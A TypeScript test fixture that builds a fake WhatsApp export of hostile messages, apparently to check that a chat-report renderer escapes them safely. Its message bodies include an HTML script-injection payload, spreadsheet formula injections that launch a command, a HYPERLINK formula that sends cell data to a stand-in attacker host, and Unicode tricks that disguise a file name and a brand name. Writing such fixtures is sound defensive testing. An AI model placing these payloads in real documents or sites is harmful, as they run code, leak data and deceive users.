/** A WhatsApp export whose messages are hostile or hard to print: markup, formulas, bidi overrides, every script the report must render. */

/** Message bodies, in file order; tests look for each of them (or its visible form) in the reports. */
export const HOSTILE = {
  script: '<script>alert("x")</script><img src=x onerror=alert(1)>',
  formula: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  plus: '+1 (312) 555-0156 call me',
  fullwidth: '＝SUM(A1:A9)',
  at: '@SUM(1+1)*cmd|\'/C calc\'!A0',
  rlo: 'invoice_\u202Efdp.exe is ready',
  zeroWidth: 'pay\u200Bpal account',
  arabic: 'مرحبا بالعالم، الرقم 123 جاهز',
  hebrew: 'שלום עולם',
  thai: 'โอนเงินเข้าบัญชีแล้วค่ะ กรุณาตรวจสอบ',
  burmese: 'ငွေလွှဲပြီးပါပြီ ကျေးဇူးပြုပြီး စစ်ဆေးပါ',
  khmer: 'សូមពិនិត្យមើលគណនី ខ្មែរ',
  chinese: '今天的目标是五万美元，护照在陈总那里',
  emoji: 'deal 🤝 money 💰 ok 👍🏽',
  mixed: 'Ref: ملف رقم 42 (urgent) — done',
} as const;

/** The export text (Android layout, day-first), one message per hostile body. */
export function hostileChat(): string {
  const lines = Object.values(HOSTILE).map((body, i) => `2${i % 8}/03/2025, 1${i % 10}:0${i % 6} - Mallory: ${body}`);
  return `${lines.join('\n')}\n`;
}
